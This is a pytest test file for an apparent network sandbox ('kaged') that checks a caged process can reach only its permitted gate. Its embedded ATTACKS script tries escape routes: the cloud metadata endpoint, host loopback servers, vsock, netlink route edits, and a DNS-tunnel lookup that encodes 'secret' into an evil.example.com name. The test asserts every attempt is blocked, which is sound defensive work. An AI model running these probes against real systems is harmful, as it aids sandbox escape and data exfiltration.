"""What a cage can reach, with nft and without: only the gate."""

import json
import os
import socket
import subprocess
import sys
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from kaged.cage.client import KeeperClient
from kaged.core.errors import KagedError
from kaged.core.keeper_wire import Frame, KeeperError
from kaged.inside.netns import MAX_PORTS
from kaged.keeper.gate import listen_in
from kaged.keeper.loop import Loop
from keeper.netted import NFT, asked, curl, modes, needs_nft, options, plan, run
from real_keeper import keeper, project

pytestmark = pytest.mark.cage

ATTACKS = """
import json, os, socket, struct, sys
port, name = int(sys.argv[1]), sys.argv[2]
results = {}

def attempt(label, work):
    try: results[label] = f"reached: {work()!r}"
    except OSError as error: results[label] = f"blocked: {error}"

def tcp(address, port, family=socket.AF_INET):
    with socket.socket(family) as s:
        s.settimeout(3)
        s.connect((address, port))
        s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        if not (got := s.recv(100)): raise OSError("closed")
        return got

def udp(address, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(0.3)
        s.sendto(b"x" * 100, (address, port))
        return s.recv(100)

def unix():
    with socket.socket(socket.AF_UNIX) as s: s.connect("\\0" + name)

def vsock():
    with socket.socket(socket.AF_VSOCK) as s: s.settimeout(1); s.connect((2, 22))

def route():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        body = struct.pack("BBBBBBBBI", socket.AF_INET, 0, 0, 0, 254, 4, 0, 1, 0)
        body += struct.pack("HHI", 8, 4, 1)
        s.send(struct.pack("IHHII", 16 + len(body), 24, 0x605, 1, 0) + body)
        (code,) = struct.unpack_from("16xi", s.recv(4096))
        if code: raise OSError(-code, os.strerror(-code))

def bind(port, kind):
    with socket.socket(socket.AF_INET, kind) as s: s.bind(("0.0.0.0", port))

V6 = socket.AF_INET6
for port_ in (80, 443, 22, 7, 6000):
    attempt(f"raw v4 {port_}", lambda: tcp("93.184.216.34", port_))
    attempt(f"raw v6 {port_}", lambda: tcp("2001:db8::5", port_, V6))
attempt("metadata", lambda: tcp("169.254.169.254", 80))
attempt("private", lambda: tcp("10.0.0.1", 443))
for address, family in (("127.0.0.1", socket.AF_INET), ("::1", V6), ("198.19.255.254", socket.AF_INET)):
    attempt(f"host's server at {address}", lambda: tcp(address, port, family))
attempt("the listener itself", lambda: tcp("127.0.0.1", 1))
attempt("allowed name, other port", lambda: tcp("api.example.com", 443))
attempt("forbidden name", lambda: socket.getaddrinfo("other.example.com", 80))
attempt("tunnel", lambda: socket.getaddrinfo("c2VjcmV0." * 6 + "evil.example.com", 80))
for label, address, family in (("v4", "8.8.8.8", socket.AF_INET), ("v6", "2001:db8::8", V6)):
    attempt(f"quic {label}", lambda: udp(address, 443, family))
    attempt(f"udp {label}", lambda: udp(address, 4000, family))
attempt("multicast v4", lambda: udp("224.0.0.251", 5353))
attempt("multicast v6", lambda: udp("ff02::fb%lo", 5353, V6))
attempt("host's udp", lambda: udp("127.0.0.1", port))
attempt("abstract socket", unix)
attempt("vsock", vsock)
attempt("route", route)
attempt("bind 53 udp", lambda: bind(53, socket.SOCK_DGRAM))
attempt("bind 53 tcp", lambda: bind(53, socket.SOCK_STREAM))
attempt("bind 443", lambda: bind(443, socket.SOCK_STREAM))
print(json.dumps(results))
"""

RESOLVE = """
import socket, struct, sys
query = struct.pack("!HHHHHH", 7, 256, 1, 0, 0, 0) + b"\\3api\\7example\\3com\\0\\0\\1\\0\\1"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(5); s.sendto(query, (sys.argv[1], 53)); answer, source = s.recvfrom(512)
    print(source[0], socket.inet_ntoa(answer[-4:]))
with socket.socket() as s:
    s.settimeout(5); s.connect((sys.argv[1], 53)); s.sendall(struct.pack("!H", len(query)) + query)
    print(socket.inet_ntoa(s.recv(512)[-4:]))
"""


@pytest.fixture
async def client(short_tmp: Path, nft: str) -> AsyncIterator[KeeperClient]:
    async with keeper(short_tmp, options=options(short_tmp, nft)) as one:
        await one.ensure_cage("c", plan(short_tmp))
        yield one


@modes
async def test_what_is_allowed_is_reached(client: KeeperClient, short_tmp: Path, nft: str) -> None:
    assert await curl(client, "http://api.example.com/") == "served api.example.com:80"
    [opened] = asked(short_tmp, "open")
    assert opened["nft"] == bool(nft)
    assert set(opened["sockets"]) == {"udp53", "tcp53", "tcp"}
    for resolver in ("127.0.0.1", "8.8.8.8"):  # whichever is asked: it is the gate, under that address
        end, text = await run(client, "c", ["python3", "-c", RESOLVE, resolver])
        assert (end.code, text) == (0, f"{resolver} 198.18.0.1\n198.18.0.1\n")


@modes
async def test_nothing_else_is(client: KeeperClient, short_tmp: Path, nft: str) -> None:
    name = f"kaged-test-{os.getpid()}-{short_tmp.name}"
    with socket.socket() as server, socket.socket(socket.AF_UNIX) as abstract:
        server.bind(("127.0.0.1", 0))
        server.listen()
        abstract.bind(f"\0{name}")
        abstract.listen()
        port = server.getsockname()[1]
        end, text = await run(client, "c", ["python3", "-c", ATTACKS, str(port), name])
        assert end.code == 0, text
        results = json.loads(text)
        assert len(results) == 32
        assert [f"{label}: {result}" for label, result in results.items() if result[:7] != "blocked"] == []
        server.setblocking(False)
        with pytest.raises(BlockingIOError):
            server.accept()


@modes
async def test_servers_inside_work_as_ever(client: KeeperClient, nft: str) -> None:
    script = (
        "import socket\n"
        "for family, address in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::1')):\n"
        "    server = socket.create_server((address, 3000), family=family)\n"
        "    client = socket.create_connection((address, 3000), 3)\n"
        "    server.accept()[0].sendall(b'inside')\n"
        "    print(client.recv(10).decode())"
    )
    end, text = await run(client, "c", ["python3", "-c", script])
    assert (end.code, text) == (0, "inside\ninside\n")


async def test_nothing_runs_in_a_cage_that_the_gate_does_not_serve(short_tmp: Path) -> None:
    refused = plan(short_tmp, {"host": "refused.example.com", "port": 80})
    # An init starts at once, and only its set-up leads to commands.
    script = "import socket, sys; s = socket.socket(fileno=int(sys.argv[2])); s.recv(1) and open(sys.argv[1], 'w')"
    refused.wire["init"] = ["/usr/bin/python3", "-c", script, str(project(short_tmp) / "ran")]
    async with keeper(short_tmp, options=options(short_tmp)) as client:
        with pytest.raises(KagedError, match="these rules are refused"):
            await client.ensure_cage("c", refused)
        assert not (short_tmp / "project" / "ran").exists()
        refused.wire["net"]["allow"] = []
        with pytest.raises(KagedError, match="could not be made"):  # that is no init, but it was asked now
            await client.ensure_cage("c", refused)
        assert (short_tmp / "project" / "ran").exists()


async def test_without_nft_the_number_of_ports_is_bounded(short_tmp: Path) -> None:
    many = plan(short_tmp, *({"host": "api.example.com", "port": 5000 + n} for n in range(MAX_PORTS)))
    async with keeper(short_tmp, options=options(short_tmp)) as client:
        with pytest.raises(KagedError, match=f"{MAX_PORTS} is the most there can be without nftables"):
            await client.ensure_cage("c", many)
        many.wire["net"]["allow"] = many.wire["net"]["allow"][: MAX_PORTS - 5]
        await client.ensure_cage("c", many)
        assert "served" in await curl(client, "http://api.example.com:5001/")


# ---- the child alone ---------------------------------------------------------------------------------

LOOPBACK = """
import fcntl, socket, struct, sys
print("here", flush=True)
sys.stdin.readline()
with socket.socket() as s: fcntl.ioctl(s, 0x8914, struct.pack("16sH14x", b"lo", 0x1))
sys.stdin.readline()
"""


def listen(pid: int, nft: str, ports: list[int]) -> Frame | KeeperError:
    loop, answers = Loop(), list[Frame | KeeperError]()

    def done(answer: Frame | KeeperError) -> None:
        answers.append(answer)
        loop.stop()

    link = listen_in(loop, pid, nft, ports, done)
    loop.run()
    link.close("done")
    return answers[0]


@needs_nft
def test_it_waits_for_the_loopback_and_keeps_its_capability_for_nft() -> None:
    # Not the root of its user namespace, unlike in a cage: only an ambient capability outlives the exec.
    command = ["unshare", "--user", "--map-user=1000", "--net", "--keep-caps", sys.executable, "-c", LOOPBACK]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as process:
        assert process.stdin and process.stdout and process.stdout.readline() == b"here\n"
        loop, answers = Loop(), list[Frame | KeeperError]()

        def done(answer: Frame | KeeperError) -> None:
            answers.append(answer)
            loop.stop()

        link = listen_in(loop, process.pid, NFT or "", [80], done)
        loop.later(0.1, loop.stop)
        loop.run()
        assert answers == []
        process.stdin.write(b"up\n")
        process.stdin.flush()
        loop.run()
        link.close("done")
        [answer] = answers
        assert isinstance(answer, Frame), answer
        assert answer.header["ok"]["nft"] is True
        assert answer.header["ok"]["kinds"] == ["udp53", "udp53", "tcp53", "tcp53", "tcp", "tcp"]
        for fd in answer.fds:
            os.close(fd)


def test_what_cannot_be_entered_is_said() -> None:
    answer = listen(os.getpid(), "", [80])
    assert isinstance(answer, KeeperError)
    assert "its namespace could not be entered" in answer.message
    with subprocess.Popen(["true"]) as gone:
        pass
    answer = listen(gone.pid, "", [80])
    assert isinstance(answer, KeeperError)
    assert "No such file" in answer.message
